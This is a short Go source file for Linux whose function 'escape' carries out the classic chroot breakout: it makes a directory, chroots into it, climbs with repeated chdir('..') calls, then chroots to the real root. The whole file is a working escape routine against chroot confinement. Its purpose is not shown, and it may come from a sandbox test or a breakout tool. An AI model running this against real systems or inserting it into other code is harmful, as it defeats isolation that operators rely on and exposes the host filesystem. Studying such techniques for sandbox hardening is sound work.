//go:build linux

package main

import (
	"os"
	"syscall"
)

func escape() error {
	errc := make(chan error)
	go func() {
		os.Mkdir("z", 0o755)
		if err := syscall.Chroot("z"); err != nil {
			errc <- err
			return
		}
		for i := 0; i < 100; i++ {
			os.Chdir("..")
		}
		errc <- syscall.Chroot(".")
	}()
	return <-errc
}
